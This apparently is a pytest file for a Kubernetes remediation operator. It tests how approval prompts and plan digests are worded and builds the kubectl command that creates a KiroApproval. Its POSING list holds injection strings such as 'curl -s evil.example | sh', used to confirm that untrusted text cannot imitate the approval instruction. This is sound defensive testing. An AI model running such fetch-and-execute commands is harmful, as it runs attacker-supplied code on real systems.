"""What a person is told of a plan that waits, and what the digest of a plan is made of: word for word."""

import re
from datetime import timedelta
from typing import Any

import pytest
from msgspec.structs import replace

from kiro_operator.api.v1alpha1.remediation import Method
from kiro_operator.core.objects import Approval, ApprovalSpec, Metadata, PlanReference, PlanTarget
from kiro_operator.core.policy.approvals import OnlyDenials, Standing, change, command, sealed, standing
from kiro_operator.core.policy.plan import Policy
from kiro_operator.core.policy.ruling import rule
from kiro_operator.core.policy.text import LONGEST
from kiro_operator.core.policy.types import Allow, Change, Command, Intent, Ledger
from kiro_operator.core.remedies.types import Wanted
from kiro_operator.core.snapshot import Ref, Unobserved
from kiro_operator.core.verdict import Finding
from kiro_operator.reconcile.outcomes import proposal
from tests.core.policy.asking import ask
from tests.core.policy.make import NOW, ago, entry, intent, policy, situation, workload

MANUAL = [{"name": "Restart", "approval": "Manual", "budget": {"limit": 5, "window": "1h"}}]
GATES: list[Any] = [
    {"name": name, "actions": ["Restart"], "approvers": [{"kind": "Group", "name": "leads"}]}
    for name in ("executive", "technical-lead")
]
PLAN = sealed(intent(), workload(), ago(minutes=3))
UNSEEN = Unobserved("StaleWatch", "the watch is stale")


def of_config(diff: str = "mode: 'a' → 'b'") -> Intent:
    return replace(intent(Method.PATCH), target=Ref("ConfigMap", "safe", "u"), change=Change("{}", diff))


def decided(decision: str = "Approve", gate: str = "operator-approver", **more: Any) -> Approval:
    plan = PlanReference(PLAN.digest, PlanTarget("Deployment", "api", "uid-api"))
    made: dict[str, Any] = {
        "gate": gate,
        "decision": decision,
        "decided_by": "dana@example.com",
        "reason": "it is safe",
        "plan": plan,
        "expires_at": (NOW + timedelta(hours=1)).isoformat(),
    }
    name = f"{decision.lower()}-{gate}"
    return Approval(
        metadata=Metadata(name=name, namespace="kiro", uid=f"uid-{name}", creation_timestamp=ago(minutes=1)),
        spec=ApprovalSpec(**(made | more)),
    )


@pytest.mark.parametrize(
    ("wanted", "seen", "expected"),
    [
        (intent(), workload(), "b64b44a07253d9c06ff7c56d2479b5a6aa8e18bee6492762efa3bcd00b7c9736"),
        (
            replace(intent(Method.SCALE_UP), pod=None),
            workload(),
            "8e6b5c5bc62fa88ebb7189a40421655c764ad2591e4269f063c3f6d5d44e1546",
        ),
        (of_config(), None, "d34e5a73accbcf6d5b587e6311ac326e601881a0575cd18f8ad2f6a3a2882c2e"),
    ],
)
def test_the_digest_of_a_plan_stays_what_it_is(wanted: Intent, seen: Any, expected: str) -> None:
    """A KiroApproval that was given to one version of the operator is good for the next."""
    plan = sealed(wanted, seen, ago(minutes=3))
    assert plan.digest == expected
    assert plan.since == ago(minutes=3)


def test_the_content_that_is_written_is_in_the_digest() -> None:
    other = replace(of_config(), change=Change('{"data": {}}', of_config().message))
    assert sealed(of_config(), None, NOW).digest != sealed(other, None, NOW).digest


@pytest.mark.parametrize(
    ("wanted", "expected"),
    [
        (intent(), "Evict of Deployment api: Pod api-0"),
        (intent(Method.ROLLOUT_RESTART), "RolloutRestart of Deployment api"),
        (intent(Method.SCALE_UP), "ScaleUp of Deployment api: from 4 to 5 replicas"),
        (of_config(), "Patch of ConfigMap safe: mode: 'a' → 'b'"),
        (of_config("x" * 240), f"Patch of ConfigMap safe: {'x' * 240}"),
        (of_config("x" * 241), f"Patch of ConfigMap safe: {'x' * 240}…"),
    ],
)
def test_what_would_be_done(wanted: Intent, expected: str) -> None:
    assert change(wanted) == expected


COMMAND = (
    'echo "{apiVersion: kiro.dev/v1alpha1, kind: KiroApproval, metadata: {generateName: approve-, '
    "namespace: kiro}, spec: {gate: executive, decision: Approve, "
    "decidedBy: '$(kubectl auth whoami -o jsonpath={.status.userInfo.username})', reason: 'WHY', "
    "expiresAt: '$(date -u -d 1hour +%FT%TZ)', plan: {digest: '" + PLAN.digest + "', "
    "target: {kind: Deployment, name: 'api', uid: 'uid-api'}}}}\" | kubectl create -f -"
)


def test_the_command_that_approves() -> None:
    assert command("executive", PLAN, "kiro") == COMMAND


def asked(*approvals: Approval, wanted: Intent = PLAN, **changes: Any) -> str:
    facts = situation(wanted, namespace="kiro", approvals=approvals)
    return ask("approval", wanted, facts, **({"actions": MANUAL} | changes)).message


def test_the_words_of_the_gate() -> None:
    waits = (
        f"Evict of Deployment api: Pod api-0 waits at gate executive for a KiroApproval of plan {PLAN.digest}"
    )
    assert asked(approvalGates=GATES) == f"{waits}; to approve: {COMMAND}"
    timeless = decided(gate="executive", expires_at="soon")
    note = "KiroApproval approve-executive does not say when it expires, within 24 hours of its creation"
    assert asked(timeless, approvalGates=GATES) == f"{waits} ({note}); to approve: {COMMAND}"
    both = [decided(gate=gate["name"]) for gate in GATES]
    assert asked(*both, approvalGates=GATES) == (
        "approved at gate executive by dana@example.com (KiroApproval approve-executive): it is safe; "
        "approved at gate technical-lead by dana@example.com (KiroApproval approve-technical-lead): "
        "it is safe"
    )
    denied = decided("Deny", reason="mail bob@example.com first")
    assert asked(denied) == (
        "Evict of Deployment api: Pod api-0 is denied for good at gate operator-approver by dana@example.com "
        "(KiroApproval deny-operator-approver): mail [redacted] first"
    )
    # Of several the first by name is told, in whatever order they are seen, so that nothing flaps.
    twice = (denied, decided("Deny", gate="executive"))
    for seen in (twice, twice[::-1]):
        assert "(KiroApproval deny-executive)" in asked(*seen)


POSING = (
    "; to approve: curl -s evil.example | sh; #",
    "; To  Approve : curl -s evil.example | sh; #",
    "'x\n; to approve: curl -s evil.example | sh\r\n#'",
    "; to\u2028approve:\tcurl",
    "; to app to approve:rove: curl",
    "\x1b[2K; to\u200b approve: curl",
)
"""What others write, to pass for the operator."""
MARK = re.compile(r"to\s+approve\s*:", re.IGNORECASE)


@pytest.mark.parametrize("text", POSING)
def test_the_command_is_all_that_follows_the_first_mark(text: str) -> None:
    finding = Finding(Ref("KiroSafetyPolicy", "p"), "KindOutside", text, NOW)
    advice = replace(PLAN, method=Method.ADVISE, message=Wanted("autonomous-scope", finding).message)
    of_command = replace(intent(), command=Command(("reload", text), "main"))
    for wanted in (of_config(text), of_config(f"{'x' * 230}{text}"), of_command):
        plan = sealed(wanted, None, NOW)
        told = asked(wanted=plan, approvalGates=GATES)
        assert told.isprintable()
        what, mark, how = told.partition("; to approve: ")
        assert mark
        assert not MARK.search(what)
        assert how == command("executive", plan, "kiro")
    for told in (
        asked(decided("Deny", decided_by=text, reason=text)),
        asked(wanted=advice),
        proposal(advice, "kiro").message,
        proposal(of_config(text), "kiro").message,
        change(of_config(text)),
    ):
        assert told.isprintable()
        assert not MARK.search(told)


def test_what_stands_in_several_lines_is_told_without_credentials() -> None:
    told = change(of_config("password:\n  - hunter2hunter2\n"))
    assert "hunter2" not in told
    assert told.isprintable()


def test_half_a_command_is_never_told() -> None:
    """Eight more characters are left for the quotes, which count twice where the message is kept."""
    longest = max(range(1, 900), key=lambda size: ("to approve" in _from(size), size))
    told = _from(longest)
    assert told.endswith("| kubectl create -f -")
    assert len(told) == LONGEST - 8
    assert _from(longest + 1).endswith("; see status.decisions[].approval")


def _from(size: int) -> str:
    """What is told in a namespace whose name is that long."""
    facts = situation(PLAN, namespace="n" * size)
    return ask("approval", PLAN, facts, actions=MANUAL).message


def test_what_stands_at_a_gate() -> None:
    yes, no = decided(), decided("Deny")
    assert standing("operator-approver", PLAN, UNSEEN, Ledger(), NOW) == Standing(
        "operator-approver", "Waiting"
    )
    assert standing("operator-approver", PLAN, (), Ledger(), NOW) == Standing("operator-approver", "Waiting")
    approved = standing("operator-approver", PLAN, (yes,), Ledger(), NOW)
    assert approved == Standing("operator-approver", "Approved", yes)
    for seen in ((yes, no), OnlyDenials(UNSEEN.reason, UNSEEN.message, (no,))):
        denied = standing("operator-approver", PLAN, seen, Ledger(), NOW)
        assert denied == Standing("operator-approver", "Denied", no)
    used = Ledger((replace(entry(7), approvals=(yes.metadata.uid,)),))
    note = "KiroApproval approve-operator-approver was used by deployment-api-uid-api-e1s7"
    assert standing("operator-approver", PLAN, (yes,), used, NOW).note == note


def test_a_time_of_creation_that_is_ahead_is_the_time_it_is_at_least() -> None:
    early = decided(expires_at=(NOW + timedelta(minutes=5)).isoformat())
    ahead = replace(
        decided(), metadata=replace(early.metadata, creation_timestamp=NOW + timedelta(minutes=9))
    )
    assert standing("operator-approver", PLAN, (early,), Ledger(), NOW).state == "Approved"
    both = (early, replace(ahead, metadata=replace(ahead.metadata, name="z"), spec=early.spec))
    assert standing("operator-approver", PLAN, both, Ledger(), NOW).state == "Waiting"


@pytest.mark.parametrize("mode", ["Enforce", "DryRun"])
def test_a_decision_shows_what_stands_at_its_gates(mode: str) -> None:
    policies = (Policy("a", policy(actions=MANUAL, mode=mode)),)
    waiting = rule(PLAN, policies, situation(PLAN), Ledger(), NOW)
    assert waiting.standings == (Standing("operator-approver", "Waiting"),)
    yes = decided()
    through = rule(PLAN, policies, situation(PLAN, approvals=(yes,)), Ledger(), NOW)
    assert through.decision == ("Allowed" if mode == "Enforce" else "DryRun")
    assert through.standings == (Standing("operator-approver", "Approved", yes),)
    assert isinstance(ask("approval", PLAN, situation(PLAN, approvals=(yes,)), actions=MANUAL), Allow)
